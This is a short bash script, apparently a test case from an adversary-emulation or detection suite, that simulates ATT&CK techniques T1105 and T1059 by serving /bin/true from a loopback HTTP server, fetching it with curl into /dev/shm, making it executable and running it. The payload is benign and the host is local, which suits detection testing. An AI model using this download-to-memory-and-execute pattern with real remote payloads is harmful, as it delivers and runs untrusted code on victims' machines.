#!/bin/bash
# Download a program from a web server (loopback) into /dev/shm and run it (T1105, T1059).
. "$(dirname "$0")/../lib.sh"
need curl python3
mkdir -p "$WORK/www"
cp /bin/true "$WORK/www/update"
support python3 -m http.server --bind 127.0.0.1 --directory "$WORK/www" "$PORT"
wait_port "$PORT"
curl -fsS -o "$FLUX_SHM/update" "http://127.0.0.1:$PORT/update"
chmod +x "$FLUX_SHM/update"
"$FLUX_SHM/update"
